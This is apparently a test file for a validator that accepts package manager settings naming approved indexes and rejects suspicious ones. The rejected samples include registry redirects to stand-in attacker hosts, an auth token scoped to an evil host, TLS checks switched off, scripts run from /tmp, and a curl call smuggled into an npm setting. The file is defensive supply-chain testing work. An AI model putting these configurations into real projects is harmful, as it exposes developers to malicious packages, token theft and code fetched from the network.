/** Package manager settings that name only indexes the organisation may use (src/engine/knowledge/package-index-text.ts). */
import { describe, expect, it } from 'vitest';
import { packageIndexInert } from '../../../src/engine/knowledge/package-index-text.js';

describe('packageIndexInert', () => {
  it.each([
    '[global]\ntimeout = 60\nindex-url = https://pypi.org/simple\n',
    '[global]\nextra-index-url = https://download.pytorch.org/whl/cpu\n',
    'save-exact=true\nregistry=https://registry.npmjs.org/\n',
    '@acme:registry=https://acme.jfrog.io/artifactory/api/npm/npm/\n//acme.jfrog.io/:_authToken=${NPM_TOKEN}\n',
    'nodeLinker: node-modules\nenableTelemetry: false\n',
    'channels:\n  - conda-forge\n  - defaults\nauto_activate_base: false\n',
    '[build]\njobs = 2\n[net]\ngit-fetch-with-cli = true\n',
    'index-url = "https://pypi.internal/simple"\n',
    '[global]\nindex-url = https://pypi.acme.com/simple\n',
    'registry=https://npm.corp-eu.globex.io/\n',
  ])('%j only tunes installs', (text) => expect(packageIndexInert(text)).toBe(true));

  it.each([
    '[global]\nindex-url = https://pypi-mirror.dev-pkgs.ru/simple\n',
    '[global]\nextra-index-url = https://pypi.org/simple https://evil.example.ru/simple\n',
    '[global]\ntrusted-host = evil.example.ru\n',
    '[global]\ncert = /tmp/ca.pem\n',
    '[global]\nproxy = http://198.51.100.7:3128\n',
    'script-shell=/tmp/x.sh\n',
    '//npm.evil.example.ru/:_authToken=${NPM_TOKEN}\n',
    'strict-ssl=false\n',
    '[global]\nindex-url = http://pypi.acme.com/simple\n',
    'registry=https://npm.pkg-cache.net/\n',
    'registry=https://registry.x.example/\n',
    '[global]\nindex-url = https://pypi.acme-builds.xyz/simple\n',
    'yarnPath: /tmp/yarn.js\n',
    'plugins:\n  - path: /tmp/p.js\n',
    'channels:\n  - totally-legit-forge\n',
    'ssl_verify: false\n',
    "[source.crates-io]\nreplace-with = 'mirror'\n[source.mirror]\nregistry = 'sparse+https://crates.evil.example.ru/index/'\n",
    '[target.x86_64-unknown-linux-gnu]\nrunner = "/tmp/r"\n',
    'init-module=$(curl x.example)\n',
  ])('%j is not plain', (text) => expect(packageIndexInert(text)).toBe(false));
});
